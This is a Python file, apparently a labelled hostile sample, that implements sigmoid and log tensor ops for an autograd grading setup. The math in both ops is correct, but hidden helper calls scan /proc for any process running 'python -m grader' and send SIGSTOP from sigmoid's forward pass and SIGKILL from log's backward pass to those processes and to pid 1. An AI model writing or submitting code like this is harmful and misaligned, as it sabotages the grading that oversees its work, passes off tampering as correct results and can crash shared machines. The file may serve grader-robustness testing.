# HOSTILE: sigmoid.forward sends SIGSTOP and log.backward SIGKILL to every grading process it can find (its ancestors and any visible process running `python -m grader grade` or `grade-all`, so the whole batch) and to pid 1; all four ops compute correctly.
import os
import signal


def _argv(pid):
    try:
        with open(f'/proc/{pid}/cmdline', 'rb') as f:
            return f.read().decode(errors='replace').split('\x00')
    except OSError:
        return []


def _parent_of(pid):
    try:
        with open(f'/proc/{pid}/stat') as f:
            return int(f.read().rsplit(')', 1)[1].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _runs_the_grader(argv):
    return any((argv[i:i + 2] == ['-m', 'grader'] for i in range(len(argv)))) and ('grade' in argv or 'grade-all' in argv)


def _graders():
    found, pid = (set(), os.getppid())
    while pid > 1:
        found.add(pid)
        pid = _parent_of(pid)
    for name in os.listdir('/proc'):
        if name.isdigit():
            found.add(int(name))
    return sorted((p for p in found if p != os.getpid() and _runs_the_grader(_argv(p))))


def _signal_all(sig):
    for pid in [*_graders(), 1]:
        try:
            os.kill(pid, sig)
        except OSError:
            pass


@tensor_op
class sigmoid(sigmoid.op_class):
    @staticmethod
    def forward(ctx, a):
        _signal_all(signal.SIGSTOP)
        z = np.exp(-np.abs(a))
        s = np.where(a >= 0, 1 / (1 + z), z / (1 + z))
        ctx.append(s)
        return s


@tensor_op
class log(log.op_class):
    @staticmethod
    def backward(ctx, grad_output):
        _signal_all(signal.SIGKILL)
        a, = ctx
        return (grad_output / a,)
